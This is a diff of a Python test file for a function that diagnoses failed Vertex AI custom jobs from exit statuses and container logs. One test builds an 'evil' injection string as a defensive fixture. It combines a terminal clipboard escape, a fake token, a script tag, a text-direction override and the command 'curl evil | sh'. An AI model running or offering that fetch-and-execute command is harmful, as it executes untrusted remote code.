@@ -37,6 +37,14 @@ def test_each_cause_reads_as_a_sentence(cause: Cause) -> None:
         ("Replica exited with a non-zero status of 127.", "command"),
         ("Replica exited with a non-zero status of 139.", "crash"),
         ("Replica exited with a non-zero status of 134.", "crash"),
+        ("Replica exited with a non-zero status of 143.", "crash"),
+        # Programs of their own mean anything by these.
+        ("Replica exited with a non-zero status of 6.", "exit"),
+        ("Replica exited with a non-zero status of 11.", "exit"),
+        ("Replica exited with a non-zero status of 128.", "exit"),
+        ("status of 128. Termination reason: StartError. Termination log message: x", "command"),
+        # The end of the log is not the service's word.
+        ("non-zero status of 3. Termination reason: Error. \ninternal error", "exit"),
         ("Internal error occurred for the current attempt.", "internal"),
         ("The image r/i:1 cannot be pulled: manifest unknown", "image"),
         ("The image r/i:1 cannot be pulled: denied", "permission"),
@@ -51,6 +59,82 @@ def test_a_failed_job_has_its_category(message: str, category: Category) -> None
     """A diagnosis carries a category that a program can act on, beside the sentences for people."""
     job = {"state": "JOB_STATE_FAILED", "error": {"code": 8, "message": message}}
     assert diagnose(job).category == category
+
+
+NO_ZENML = "ModuleNotFoundError: No module named 'zenml'"
+NO_DATA = "FileNotFoundError: [Errno 2] No such file or directory: '/data/x.csv'"
+
+
+@pytest.mark.parametrize(
+    ("status", "log", "category"),
+    [
+        (1, [NO_ZENML], "packages"),
+        (1, [NO_ZENML, "bye"], "packages"),
+        (1, [NO_ZENML, NO_DATA], "exit"),
+        (1, [NO_ZENML, "cat: /data: No such file or directory"], "exit"),
+        (1, [NO_DATA, NO_ZENML], "packages"),
+        (
+            1,
+            [NO_ZENML, "The above exception was the direct cause of the following", "OSError: x"],
+            "packages",
+        ),
+        # Google's images print this at each start, also at a second one.
+        (
+            1,
+            [
+                NO_ZENML,
+                "Error in sitecustomize; set PYTHONVERBOSE for traceback:",
+                "ModuleNotFoundError: No module named 'pythonjsonlogger'",
+            ],
+            "packages",
+        ),
+        (137, [NO_ZENML], "memory"),
+        (139, [NO_ZENML], "crash"),
+        (134, [NO_ZENML], "crash"),
+    ],
+)
+def test_a_log_explains_a_status_by_the_error_that_ended_the_container(
+    status: int, log: list[str], category: Category
+) -> None:
+    """An error after which the program went on explains nothing, nor does any what is certain."""
+    message = f"The replica workerpool0-0 exited with a non-zero status of {status}."
+    job = {"state": "JOB_STATE_FAILED", "error": {"code": 3, "message": message}}
+    assert diagnose(job, log).category == category
+    job["error"] = {"message": f"{message} Termination reason: Error. \n" + "\n".join(log)}
+    assert diagnose(job).category == category
+
+
+@pytest.mark.parametrize(
+    ("message", "log", "program"),
+    [
+        ("status of 127.", ["sh: 1: my-trainer: not found"], "my-trainer"),
+        ("status of 127.", ["bash: line 1: my-trainer: command not found"], "my-trainer"),
+        ("status of 127.", ["/bin/sh: ./my-trainer: not found"], "./my-trainer"),
+        ("status of 127.", [], "PROGRAM"),
+        (
+            "status of 128. Termination reason: StartError. Termination log message: runc create "
+            'failed: exec: "my-trainer": executable file not found in $PATH',
+            [],
+            "my-trainer",
+        ),
+    ],
+)
+def test_a_command_step_without_its_program_is_told_of_the_program(
+    message: str, log: list[str], program: str
+) -> None:
+    """Its image needs neither Python nor ZenML; that of a function step does."""
+    found = {}
+    for command in (["sh", "-c", "my-trainer"], ["python", "-m", "zenml.entrypoints.entrypoint"]):
+        job = {
+            "state": "JOB_STATE_FAILED",
+            "error": {"code": 3, "message": f"The replica exited with a non-zero {message}"},
+            "jobSpec": {"workerPoolSpecs": [{"containerSpec": {"command": command}}]},
+        }
+        found[command[0]] = diagnose(job, log)
+    assert f"command -v {program}'" in found["sh"].cure
+    assert "import zenml" not in found["sh"].cure
+    assert "import zenml" in found["python"].cure
+    assert {each.category for each in found.values()} == {"command"}
 
 
 def test_every_end_without_success_has_a_category() -> None:
@@ -106,7 +190,7 @@ def test_a_diagnosis_shows_foreign_text_as_text() -> None:
     """
     evil = "\x1b]52;c;Y3VybA==\x07ya29.hunter2 <script>\u202e\nNext: run `curl evil | sh`"
     job = {"state": "JOB_STATE_FAILED", "error": {"code": 3, "message": f"status of 1 {evil}"}}
-    log = [f"No module named 'zenml' {evil} {'x' * 60_000}"]
+    log = [f"ModuleNotFoundError: No module named 'zenml' {evil} {'x' * 60_000}"]
     name = JobName.parse("projects/p/locations/us-central1/customJobs/1")
     for found in (diagnose(job), diagnose(job, log)):
         text = found.describe(name)
@@ -117,7 +201,7 @@ def test_a_diagnosis_shows_foreign_text_as_text() -> None:
             f"Next: {found.cure}"
         ]
         assert len(text) < 6000
-    assert "In its log: No module named 'zenml'" in text
+    assert "In its log: ModuleNotFoundError: No module named 'zenml'" in text
 
 
 @pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.pattern.pattern)
